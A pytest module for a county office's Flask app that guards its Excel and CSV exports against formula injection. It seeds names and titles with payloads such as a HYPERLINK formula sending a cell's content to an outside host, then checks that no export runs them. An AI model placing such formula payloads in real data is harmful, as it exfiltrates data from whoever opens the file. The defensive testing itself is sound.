"""What someone typed never runs as a formula in a spreadsheet the app hands out.

A member renamed =HYPERLINK("http://a.cn/?"&C2,"郭志红") by a clerk, a title starting with +, a unit called
@SUM(A1)…: the office's ranking, award and reward workbooks, every list export, the import templates and the
error workbooks are opened in Excel by finance and the office. Two halves:

- the source: no module of app/ or reports/ writes a cell except through `reports.cells`; every module that
  makes a workbook or a CSV writes through it; and every function that calls one of those writers' makers is
  exercised by a case below, so a new spreadsheet fails here until a case downloads it;
- the files: a county whose names, units, titles, users and log lines all start with =, +, -, @ runs its year to
  the end; then each case downloads its spreadsheets (.xlsx and .csv) and each must hold no formula (no <f> in any
  sheet's XML), show the county's text as text, keep its numbers numbers, and in a CSV quote every field a
  spreadsheet would run while no number is quoted.
"""
from __future__ import annotations

import ast
import csv
import functools
import io
import re
import tempfile
import zipfile
from collections.abc import Callable, Iterator
from decimal import Decimal
from pathlib import Path
from typing import NamedTuple

import openpyxl
import pytest
import sqlalchemy as sa
from conftest import build_demo, text_of, use_snapshot
from flask import Flask
from flask.testing import FlaskClient

from app.extensions import db

ROOT = Path(__file__).resolve().parents[1]
WRITER = "reports/cells.py"
CELLS = "reports.cells"
SOURCES = sorted(p for folder in ("app", "reports") for p in (ROOT / folder).rglob("*.py"))


# --- the source -----------------------------------------------------------------------------------------------------

def _rel(path: Path) -> str:
    return path.relative_to(ROOT).as_posix()


def _module_path(dotted: str) -> str | None:
    """`app.imports.export` → app/imports/export.py (or the package's __init__.py), if it is one of ours."""
    base = ROOT / dotted.replace(".", "/")
    for candidate in (base.with_suffix(".py"), base / "__init__.py"):
        if candidate.is_file():
            return _rel(candidate)
    return None


@functools.cache
def _tree(rel: str) -> ast.Module:
    return ast.parse((ROOT / rel).read_text(encoding="utf-8"), filename=rel)


def _aliases(tree: ast.Module) -> dict[str, str]:
    """Each name a module binds by importing (function-local imports too) → the dotted name it stands for."""
    found: dict[str, str] = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for a in node.names:
                found[a.asname or a.name.split(".")[0]] = a.name if a.asname else a.name.split(".")[0]
        elif isinstance(node, ast.ImportFrom) and node.module and node.level == 0:
            for a in node.names:
                found[a.asname or a.name] = f"{node.module}.{a.name}"
    return found


def _dotted(node: ast.expr) -> str | None:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute) and (base := _dotted(node.value)) is not None:
        return f"{base}.{node.attr}"
    return None


def _resolved(node: ast.expr, aliases: dict[str, str]) -> str | None:
    """The dotted name a callee stands for, through the module's imports (`rr.ranking_workbook` →
    `reports.ranking.ranking_workbook`)."""
    name = _dotted(node)
    if name is None:
        return None
    head, _, rest = name.partition(".")
    if head not in aliases:
        return None
    return aliases[head] + ("." + rest if rest else "")


def _imports_cells(rel: str) -> bool:
    return any(v == CELLS or v.startswith(CELLS + ".") for v in _aliases(_tree(rel)).values())


def writer_modules() -> set[str]:
    """The modules that write spreadsheets: each imports reports.cells (the writer itself aside)."""
    return {_rel(p) for p in SOURCES if _rel(p) != WRITER and _imports_cells(_rel(p))}


def _top_functions(tree: ast.Module) -> Iterator[tuple[str, ast.AST]]:
    for node in tree.body:
        if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
            yield node.name, node
        elif isinstance(node, ast.ClassDef):
            for item in node.body:
                if isinstance(item, (ast.FunctionDef, ast.AsyncFunctionDef)):
                    yield f"{node.name}.{item.name}", item


def writer_api() -> dict[str, set[str]]:
    """Each writer module → its public functions that write cells (directly or through the module's own helpers)."""
    api: dict[str, set[str]] = {}
    for rel in writer_modules():
        tree = _tree(rel)
        aliases = _aliases(tree)
        calls = {name: {_resolved(c.func, aliases) or _dotted(c.func) or "" for c in ast.walk(body)
                        if isinstance(c, ast.Call)} for name, body in _top_functions(tree)}
        writing = {name for name, called in calls.items() if any(c.startswith(CELLS + ".") for c in called)}
        while grown := {name for name, called in calls.items() if name not in writing and called & writing}:
            writing |= grown
        api[rel] = {name for name in writing if not name.startswith("_")}
    return api


def maker_calls() -> set[str]:
    """`module:function` of every function outside the writer modules that calls one of their makers (or hands it
    on to be called)."""
    api = writer_api()
    makers = {f"{rel[:-3].replace('/', '.').removesuffix('.__init__')}.{name}" for rel, names in api.items()
              for name in names}
    found: set[str] = set()
    for path in SOURCES:
        rel = _rel(path)
        if rel == WRITER or rel in api:
            continue
        tree = _tree(rel)
        aliases = _aliases(tree)
        for name, body in _top_functions(tree):
            # called, or handed on (`_decided(ask, rw.reward_workbook, …)`)
            if any(isinstance(n, (ast.Name, ast.Attribute)) and _resolved(n, aliases) in makers
                   for n in ast.walk(body)):
                found.add(f"{rel}:{name}")
    return found


_CELL_CLASSES = {"Cell", "WriteOnlyCell"}
_WORKBOOK_MAKERS = {"Workbook", "load_workbook", "ExcelWriter"}
_SHEET_SOURCES = {"create_sheet", "active", "worksheets", "get_sheet_by_name"}
_SHEET_NAMES = {"ws", "sheet", "sheet_", "worksheet", "summary"}
_BOOK_NAMES = {"wb", "book", "workbook"}


def _worksheet_names(tree: ast.Module) -> set[str]:
    """Names a module's code binds to worksheets (a heuristic: what comes from create_sheet, .active, .worksheets,
    a `sheet(…)` maker or a workbook's [...]; parameters annotated as worksheets; the usual names)."""
    names = set(_SHEET_NAMES)
    books = set(_BOOK_NAMES) | {t.id for node in ast.walk(tree) if isinstance(node, ast.Assign)
                                and isinstance(node.value, ast.Call) and (_dotted(node.value.func) or "").split(".")[-1]
                                in _WORKBOOK_MAKERS for t in node.targets if isinstance(t, ast.Name)}
    for node in ast.walk(tree):
        if isinstance(node, (ast.Assign, ast.For, ast.withitem)):
            value = node.value if isinstance(node, ast.Assign) else node.iter if isinstance(node, ast.For) \
                else node.context_expr
            targets = node.targets if isinstance(node, ast.Assign) else [
                node.target if isinstance(node, ast.For) else node.optional_vars]
            sources = {n.attr for n in ast.walk(value) if isinstance(n, ast.Attribute)} | \
                {n.func.attr for n in ast.walk(value) if isinstance(n, ast.Call) and isinstance(n.func, ast.Attribute)}
            subscripted = isinstance(value, ast.Subscript) and _dotted(value.value) in books
            if subscripted or sources & (_SHEET_SOURCES | {"sheet"}):
                names |= {n.id for t in targets if t is not None for n in ast.walk(t) if isinstance(n, ast.Name)}
        elif isinstance(node, ast.arg) and node.annotation is not None and "Worksheet" in ast.unparse(node.annotation):
            names.add(node.arg)
    return names


def direct_writes() -> list[str]:
    """Every place in app/ and reports/ that writes a cell, a CSV row or a workbook without reports.cells."""
    return [line for path in SOURCES if _rel(path) != WRITER for line in writes_in(_rel(path), _tree(_rel(path)))]


def writes_in(rel: str, tree: ast.Module) -> list[str]:
    """Where module `rel` writes a cell, a CSV row or a workbook without reports.cells: `file:line: why: code`."""
    found = []
    aliases = _aliases(tree)
    cells_imported = any(v == CELLS or v.startswith(CELLS + ".") for v in aliases.values())
    uses_openpyxl = cells_imported or any(v.startswith("openpyxl") for v in aliases.values())
    sheets = _worksheet_names(tree)

    def bad(node: ast.AST, why: str) -> None:
        found.append(f"{rel}:{node.lineno}: {why}: {ast.unparse(node)[:80]}")

    for node in ast.walk(tree):
        if isinstance(node, (ast.Import, ast.ImportFrom)):
            names = [a.name for a in node.names]
            module = node.module if isinstance(node, ast.ImportFrom) else ""
            if any(n.split(".")[0] == "xlsxwriter" for n in names) or (module or "").startswith("xlsxwriter"):
                bad(node, "xlsxwriter")
            if module and module.startswith("openpyxl") and _CELL_CLASSES & set(names):
                bad(node, "an openpyxl cell made by hand")
            if module == "csv" and {"writer", "DictWriter"} & set(names):
                bad(node, "a CSV writer")
        elif isinstance(node, ast.Call):
            callee = _resolved(node.func, aliases) or ""
            method = node.func.attr if isinstance(node.func, ast.Attribute) else ""
            if callee in ("csv.writer", "csv.DictWriter"):
                bad(node, "a CSV writer")
            elif method in ("to_excel", "to_csv"):
                bad(node, "a pandas writer")
            elif callee.split(".")[-1] in _CELL_CLASSES and callee.startswith("openpyxl"):
                bad(node, "an openpyxl cell made by hand")
            elif callee.split(".")[-1] in _WORKBOOK_MAKERS and callee.startswith("openpyxl") \
                    and not cells_imported:
                bad(node, "a workbook made by a module that does not write through reports.cells")
            elif uses_openpyxl and method == "cell" and (len(node.args) >= 3 or any(
                    k.arg == "value" for k in node.keywords)):
                bad(node, "a value written into a cell")
            elif uses_openpyxl and method == "append" and (_dotted(node.func.value) in sheets or any(
                    isinstance(n, ast.Attribute) and n.attr in _SHEET_SOURCES for n in ast.walk(node.func.value))):
                bad(node, "a row appended to a worksheet")
        elif isinstance(node, (ast.Assign, ast.AugAssign, ast.AnnAssign)) and uses_openpyxl:
            targets = node.targets if isinstance(node, ast.Assign) else [node.target]
            for target in targets:
                for t in ast.walk(target):
                    if isinstance(t, ast.Attribute) and t.attr in ("value", "data_type", "_value"):
                        bad(node, "a cell's value or type set")
        elif isinstance(node, ast.Constant) and isinstance(node.value, str) and "<c r=" in node.value:
            bad(node, "sheet XML of a cell")
    return found


# --- the hostile county ---------------------------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://a.cn/?"&C2,"郭志红")'
PREFIXES = ("=1+1", "+1+1", "-2+3", "@SUM(A1)")  # one of these starts every name, unit, title and log line
RUNS = ("=", "+", "-", "@", "\t", "\r")           # what a spreadsheet runs at the start of a CSV field
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
DAY = re.compile(r"\d{4}-\d{2}-\d{2}")
FORMULA = re.compile(rb"<(?:\w+:)?f[\s>/]")  # an <f> element: a cell's formula
NEGATIVE = Decimal("-3.5")


def _hostile(items: list, field: str, limit: int) -> None:
    for i, item in enumerate(items):
        setattr(item, field, (PREFIXES[i % len(PREFIXES)] + getattr(item, field))[:limit])


def build_hostile_year() -> None:
    """The demo county with every name, unit, enterprise and 企业主, record and meeting title, display name and a
    sign-in's user name starting with a formula (the first member called exactly HYPERLINK), then its year finished:
    reviews frozen, award lists final; and one branch's indicator (profit growth, say) at -3.5."""
    from app.documents.yearend import finish_year
    from app.models import (Activity, AuditLog, BranchIndicator, Enterprise, LoginEvent, Meeting, Member, PartyMember,
                            Unit, User)

    use_snapshot("demo", build_demo)
    members = db.session.scalars(sa.select(Member).order_by(Member.id)).all()
    _hostile(members, "name", 40)
    members[0].name = HYPERLINK
    _hostile(db.session.scalars(sa.select(Unit).order_by(Unit.id)).all(), "name", 80)
    _hostile(db.session.scalars(sa.select(PartyMember).order_by(PartyMember.id)).all(), "name", 40)
    enterprises = db.session.scalars(sa.select(Enterprise).order_by(Enterprise.id)).all()
    _hostile(enterprises, "name", 120)
    _hostile([e for e in enterprises if e.owner_name], "owner_name", 40)  # the 企业主 the export writes
    _hostile(db.session.scalars(sa.select(Activity).order_by(Activity.id)).all(), "title", 200)
    _hostile(db.session.scalars(sa.select(Meeting).order_by(Meeting.id)).all(), "title", 200)
    _hostile(db.session.scalars(sa.select(User).order_by(User.id)).all(), "display_name", 40)
    db.session.add(LoginEvent(username=HYPERLINK, result="unknown_user", ip="=1+1"))
    db.session.add(AuditLog(action="update", entity="member", entity_id=members[0].id, field="name",
                            before="-2+3", after=HYPERLINK, reason="@SUM(A1) 改名"))
    finish_year()
    db.session.scalars(sa.select(BranchIndicator).where(BranchIndicator.value.is_not(None))
                       .order_by(BranchIndicator.id)).first().value = NEGATIVE
    db.session.commit()


@pytest.fixture
def hostile(app: Flask) -> None:
    use_snapshot("hostile-year", build_hostile_year)


# --- looking at a file ----------------------------------------------------------------------------------------------

def check_xlsx(name: str, data: bytes) -> tuple[list[str], int]:
    """No formula in any sheet of the workbook; its text cells and how many cells hold a number or a date."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = [n for n in archive.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert parts, f"{name}: no worksheet"
        for part in parts:
            assert not FORMULA.search(archive.read(part)), f"{name}: {part} holds a formula"
    book = openpyxl.load_workbook(io.BytesIO(data))  # not data_only: a formula would load as one
    texts, numbers = [], 0
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{name}: {ws.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                elif cell.value is not None and not isinstance(cell.value, bool):
                    numbers += 1
    return texts, numbers


def check_csv(name: str, data: bytes) -> tuple[list[str], int]:
    """Every field a spreadsheet would run is quoted with ', and no number is; its fields and how many are numbers."""
    fields = [f for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for f in row]
    for field in fields:
        assert not field.startswith(RUNS) or NUMBER.fullmatch(field), f"{name}: {field!r} would run in Excel"
        assert not (field.startswith("'") and NUMBER.fullmatch(field[1:])), f"{name}: the number {field!r} is quoted"
    numbers = sum(1 for f in fields if NUMBER.fullmatch(f) or DAY.fullmatch(f))
    return [f[1:] if f[:1] == "'" else f for f in fields], numbers


# --- every spreadsheet the app makes --------------------------------------------------------------------------------

class Made(NamedTuple):
    """A downloaded spreadsheet: what it is, its bytes, whether it must hold a number or a date, and whether it
    must hold the county's formula-like text (an import template of records lists only the rule file's kinds)."""

    label: str
    data: bytes
    numbers: bool = True
    typed: bool = True


Files = list[Made]
CASES: dict[str, tuple[tuple[str, ...], Callable[..., Files]]] = {}


def case(*covers: str) -> Callable[[Callable[..., Files]], Callable[..., Files]]:
    """A way to download some of the app's spreadsheets; `covers`: the writer modules and the `module:function`s
    that make them (see `maker_calls`)."""
    def register(fetch: Callable[..., Files]) -> Callable[..., Files]:
        CASES[fetch.__name__] = (covers, fetch)
        return fetch
    return register


def get(client: FlaskClient, url: str, numbers: bool = True, typed: bool = True) -> Made:
    response = client.get(url)
    assert response.status_code == 200, f"{url}: {response.status_code} {text_of(response)[:300]}"
    return Made(url, response.data, numbers, typed)


def both(client: FlaskClient, url: str, numbers: bool = True) -> Files:
    """The list at `url` exported as .xlsx and as .csv."""
    joiner = "&" if "?" in url else "?"
    return [get(client, f"{url}{joiner}export={fmt}", numbers) for fmt in ("xlsx", "csv")]


@case("app/members/routes.py:index", "app/imports/export.py", "app/spreadsheets/template.py")
def member_list(client: FlaskClient, as_user: Callable[[str], None]) -> Files:
    as_user("office")
    return both(client, "/members/", numbers=False)  # the demo's members have no 任职 dates


@case("app/activities/routes.py:_export")
def record_list(client: FlaskClient, as_user: Callable[[str], None]) -> Files:
    as_user("office")
    return both(client, "/activities/")


@case("app/activities/routes.py:queue")
def verification_queue(client: FlaskClient, as_user: Callable[[str], None]) -> Files:
    as_user("office")
    return both(client, "/activities/queue")


@case("app/meetings/routes.py:index")
def meeting_list(client: FlaskClient, as_user: Callable[[str], None]) -> Files:
    as_user("office")
    return both(client, "/meetings/")


@case("app/branches/routes.py:index", "app/branches/routes.py:party_members", "app/branches/routes.py:result_list")
def branch_lists(client: FlaskClient, as_user: Callable[[str], None]) -> Files:
    as_user("office")
    return [*both(client, "/branches/", numbers=False), *both(client, "/branches/party-members"),
            *both(client, "/branches/results")]


@case("app/admin/routes.py:_export_users", "app/admin/routes.py:login_log", "app/admin/routes.py:_export_audit")
def admin_logs(client: FlaskClient, as_user: Callable[[str], None]) -> Files:
    as_user("admin")
    return [*both(client, "/admin/users", numbers=False), *both(client, "/admin/login-log", numbers=False),
            *both(client, "/admin/audit-log")]  # times as the pages show them (text); 对象编号 a number


def _reviews() -> list:
    from app.models import Review
    return db.session.scalars(sa.select(Review).order_by(Review.id)).all()


@case("app/reviews/routes.py:ranking", "app/awards/routes.py:notices")
def review_tables(client: FlaskClient, as_user: Callable[[str], None]) -> Files:
    as_user("office")
    return [file for review in _reviews() for url in (f"/reviews/{review.id}", f"/awards/notices/{review.id}")
            for file in both(client, url)]


@case("app/awards/routes.py:index")
def award_lists(client: FlaskClient, as_user: Callable[[str], None]) -> Files:
    """Every award list with its candidates (their names, units and 事迹) as one table."""
    as_user("office")
    return both(client, "/awards/")


@case("app/dashboard/routes.py:warnings")
def warning_list(client: FlaskClient, as_user: Callable[[str], None]) -> Files:
    as_user("office")
    return both(client, "/dashboard/warnings?year=2025")


@case("app/documents/kinds.py:_award_workbook", "app/documents/kinds.py:_ranking_workbook",
      "app/documents/kinds.py:_reward_workbook", "reports/awards.py", "reports/ranking.py", "reports/rewards.py",
      "reports/layout.py")
def award_and_ranking_workbooks(client: FlaskClient, as_user: Callable[[str], None]) -> Files:
    """The office's ranking.xlsx, 表彰名单.xlsx and 奖励发放表.xlsx of every review of the year."""
    from app.documents.kinds import SPREADSHEETS
    as_user("office")
    files = []
    for review in _reviews():
        for name in SPREADSHEETS:
            response = client.get(f"/documents/review/{review.id}/{name}.xlsx")
            if response.status_code == 200:  # a review without an award list has no 表彰名单 (the page says so)
                files.append(Made(f"review {review.id} {name}.xlsx", response.data))
    assert {name for name in SPREADSHEETS if any(f.label.endswith(f" {name}.xlsx") for f in files)} == \
        set(SPREADSHEETS)
    return files


@case("app/pairings/routes.py:index", "app/projects/routes.py:index")
def register_lists(client: FlaskClient, as_user: Callable[[str], None]) -> Files:
    """The 联一户 pairings and the 引一企 projects: their members' and units' names in them."""
    as_user("office")
    return [*both(client, "/pairings/?year=2025"), *both(client, "/projects/")]


@case("app/followup/routes.py:index")
def followup_list(client: FlaskClient, as_user: Callable[[str], None]) -> Files:
    """The 通报 cases the finished year opened: the members' names in them."""
    as_user("office")
    return both(client, "/followup/?state=")


@case("app/contacts/routes.py:index", "app/contacts/routes.py:_log_page", "app/contacts/routes.py:links",
      "app/contacts/routes.py:_masses_page", "app/documents/cli.py:_contacts", "reports/contacts.py")
def contact_tables(client: FlaskClient, as_user: Callable[[str], None]) -> Files:
    """四联系: each 常委's coverage, the members nobody contacted, each 专委会's, the contact log, the assignments and
    the contacts with the masses (in their import formats), and `report contacts` as .xlsx."""
    as_user("office")
    files = [*both(client, "/contacts/?year=2025"), *both(client, "/contacts/?year=2025&show=uncontacted", False),
             *both(client, "/contacts/?year=2025&show=committees"), *both(client, "/contacts/log?year=2025"),
             *both(client, "/contacts/links?all=1"), *both(client, "/contacts/masses?year=2025")]
    return [*files, _report(client, "contacts")]


@case("app/coverage/routes.py:index", "app/documents/cli.py:_coverage", "reports/coverage.py")
def coverage_tables(client: FlaskClient, as_user: Callable[[str], None]) -> Files:
    """双比双争 coverage: the page's .xlsx, `report coverage` as .xlsx and the year's enterprise figures exported in
    the import's layout, the enterprises' names in them."""
    as_user("office")
    return [get(client, "/coverage/?year=2025&format=xlsx"), _report(client, "coverage"),
            *both(client, "/coverage/?year=2025")]


def _report(client: FlaskClient, name: str, *args: str) -> Made:
    """`flask report NAME --year 2025 -o FILE.xlsx` (or with `args` instead of the year), read back."""
    with tempfile.TemporaryDirectory() as folder:
        out = Path(folder) / f"{name}.xlsx"
        result = client.application.test_cli_runner().invoke(
            args=["report", name, *(args or ("--year", "2025")), "-o", str(out)])
        assert result.exit_code == 0, result.output
        return Made(f"report {name}", out.read_bytes())


@case("app/reviews/routes.py:term_review", "app/documents/cli.py:_term", "reports/term.py")
def term_tables(client: FlaskClient, as_user: Callable[[str], None]) -> Files:
    """届末综合评价: the page's .xlsx and `report term` as .xlsx, the members' names in them."""
    from app.models import Term
    as_user("office")
    term = db.session.scalar(sa.select(Term.id).order_by(Term.id))
    return [get(client, f"/reviews/term/{term}?format=xlsx"), _report(client, "term", "--term", str(term))]


@case("app/imports/routes.py:template")
def import_templates(client: FlaskClient, as_user: Callable[[str], None]) -> Files:
    """The templates: their dropdowns list the county's units and kinds."""
    from app.imports.datasets import DATASETS
    as_user("office")
    plain = ("records", "branch-results", "history", "pairings", "projects", "contact-links",  # no county name listed
             "mass-contacts")
    return [get(client, f"/imports/{name}/template.xlsx", numbers=False, typed=name not in plain)
            for name in DATASETS]


def _upload_xlsx(rows: list[list[object]]) -> bytes:
    """An .xlsx whose cells hold `rows` as typed text (as a clerk's file would), never as formulas."""
    from reports import cells
    book = openpyxl.Workbook()
    for row in rows:
        cells.append(book.active, row)
    book.active.title = "履职记录"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@case("app/imports/routes.py:errors", "app/spreadsheets/annotate.py")
def import_error_workbooks(client: FlaskClient, as_user: Callable[[str], None]) -> Files:
    """A records file (.xlsx and .csv) with formula-like text and a bad date: the workbook with its errors marked."""
    as_user("office")
    header = ["对象编号", "姓名", "类型", "日期", "标题"]
    rows = [[HYPERLINK, "+1+1", "@SUM(A1)", "2025-13-01", "-2+3"], ["=1+1", "=1+1", "提案", "不是日期", "=1+1"]]
    text = "\r\n".join(",".join(f'"{v}"' for v in row) for row in [header, *rows])
    files = []
    for name, data in (("records.xlsx", _upload_xlsx([header, *rows])), ("records.csv", text.encode("utf-8-sig"))):
        page = client.post("/imports/records/check", data={"file": (io.BytesIO(data), name)},
                           content_type="multipart/form-data")
        link = re.search(r'href="(/imports/records/errors/[^"]+)"', page.get_data(as_text=True))
        assert link, f"{name}: no error workbook offered: {text_of(page)[:300]}"
        files.append(get(client, link.group(1).replace("&amp;", "&")))  # 错误汇总's row numbers
    return files


@case("app/roster/routes.py:errors")
def roster_error_workbook(client: FlaskClient, as_user: Callable[[str], None]) -> Files:
    as_user("office")
    header = ["序号", "姓名", "性别", "界别", "联系电话"]
    text = "\r\n".join(",".join(row) for row in [header, ["1", HYPERLINK.replace('"', "'"), "男的", "=1+1", "+1+1"],
                                                 ["2", "-2+3", "@SUM(A1)", "-2+3", "13900000000"]])
    response = client.post("/imports/roster/", data={"file": (io.BytesIO(text.encode("utf-8-sig")), "名单.csv")},
                           content_type="multipart/form-data")
    assert response.status_code == 302, text_of(response)[:300]
    page = client.get(response.headers["Location"], follow_redirects=True)
    link = re.search(r'href="([^"]+/errors[^"]*)"', page.get_data(as_text=True))
    assert link, f"no error workbook offered: {text_of(page)[:300]}"
    return [get(client, link.group(1).replace("&amp;", "&"))]


@case("app/setup/accounts.py:slips_xlsx")
def account_table(client: FlaskClient, as_user: Callable[[str], None]) -> Files:
    """The office's table of new accounts: the units' names in it."""
    import base64
    as_user("admin")
    page = client.post("/setup/accounts", data={"clerk": "y"})
    assert page.status_code == 200, text_of(page)[:300]
    found = re.search(r'href="data:application/vnd\.openxmlformats-officedocument\.spreadsheetml\.sheet;base64,'
                      r'([^"]+)"', page.get_data(as_text=True))
    assert found, "no account table offered"
    return [Made("账号表.xlsx", base64.b64decode(found.group(1)), numbers=False)]


@case("app/reviews/cli.py", "app/cli.py:init_app")
def score_csv(client: FlaskClient, as_user: Callable[[str], None]) -> Files:
    """`flask score --format csv` (and --explain) on the county's verified records."""
    files = []
    for extra in ([], ["--explain"]):
        result = client.application.test_cli_runner().invoke(args=["score", "--rules", "scoring_rules/2025-四个一-委员.yaml",
                                                    "--period", "2025", "--format", "csv", *extra])
        assert result.exit_code == 0, result.output
        files.append(Made(f"score --format csv {' '.join(extra)}", result.stdout.encode("utf-8")))
    return files


@pytest.mark.parametrize("name", sorted(CASES))
def test_no_spreadsheet_the_app_makes_runs_what_someone_typed(name: str, hostile: None, client: FlaskClient,
                                                              as_user: Callable[[str], None]) -> None:
    _, fetch = CASES[name]
    files = fetch(client, as_user)
    assert files
    for made in files:
        texts, numbers = (check_xlsx if made.data[:2] == b"PK" else check_csv)(made.label, made.data)
        assert not made.typed or any(t.startswith((HYPERLINK, *PREFIXES)) for t in texts), \
            f"{made.label}: none of the county's formula-like text is in it, as typed"
        assert numbers or not made.numbers, f"{made.label}: no number or date in it"


def test_a_negative_number_stays_a_number_in_both_formats(hostile: None, client: FlaskClient,
                                                         as_user: Callable[[str], None]) -> None:
    as_user("office")
    book = openpyxl.load_workbook(io.BytesIO(client.get("/branches/results?state=&export=xlsx").data))
    found = [c for row in book["比实绩"].iter_rows() for c in row if c.value == NEGATIVE]
    assert found and {c.data_type for c in found} == {"n"}
    text = client.get("/branches/results?state=&export=csv").data.decode("utf-8-sig")
    fields = [f for row in csv.reader(io.StringIO(text)) for f in row]
    assert "-3.5" in fields and "'-3.5" not in fields


# --- the source's tests ---------------------------------------------------------------------------------------------

def test_the_checker_finds_each_way_of_writing_a_cell_by_hand() -> None:
    source = """
import csv
from csv import DictWriter
import openpyxl
from openpyxl.cell import WriteOnlyCell
def report(rows, out):
    book = openpyxl.Workbook()
    ws = book.active
    ws.append(["姓名"])
    roster = book["名单"]
    roster.append(rows[0])
    book.create_sheet("二").append(rows[1])
    ws.cell(row=2, column=1, value=rows[0][0])
    ws.cell(3, 1, rows[0][1])
    ws["A4"].value = rows[0][2]
    ws["A5"].data_type = "s"
    csv.writer(out).writerow(rows[0])
    frame.to_excel(out)
    return '<c r="A1"><v>1</v></c>'
"""
    found = [line.split(": ")[1] for line in writes_in("made_up.py", ast.parse(source))]
    assert sorted(found) == sorted([
        "a CSV writer", "an openpyxl cell made by hand", "a workbook made by a module that does not write through "
        "reports.cells", "a row appended to a worksheet", "a row appended to a worksheet",
        "a row appended to a worksheet", "a value written into a cell", "a value written into a cell",
        "a cell's value or type set", "a cell's value or type set", "a CSV writer", "a pandas writer",
        "sheet XML of a cell"])
    clean = """
import openpyxl
from reports import cells
def report(rows):
    book = openpyxl.Workbook()
    ws = book.active
    cells.append(ws, rows[0])
    cells.put(ws, 2, 1, rows[1][0]).number_format = "@"
    ws.cell(row=1, column=1).font = None
    found = []
    found.append((ws, rows))
    return found
"""
    assert writes_in("made_up.py", ast.parse(clean)) == []


def test_no_module_writes_a_cell_but_through_reports_cells() -> None:
    found = direct_writes()
    assert not found, "write these through reports.cells (cells.append, put, cell, text_xml, write_csv):\n" + \
        "\n".join("  " + line for line in found)


def test_every_spreadsheet_maker_is_downloaded_by_a_case() -> None:
    needed = writer_modules() | maker_calls()
    covered = {c for covers, _ in CASES.values() for c in covers}
    assert needed - covered == set(), "add a case downloading what these make"
    assert covered - needed == set(), "these cases cover nothing that makes a spreadsheet any more"
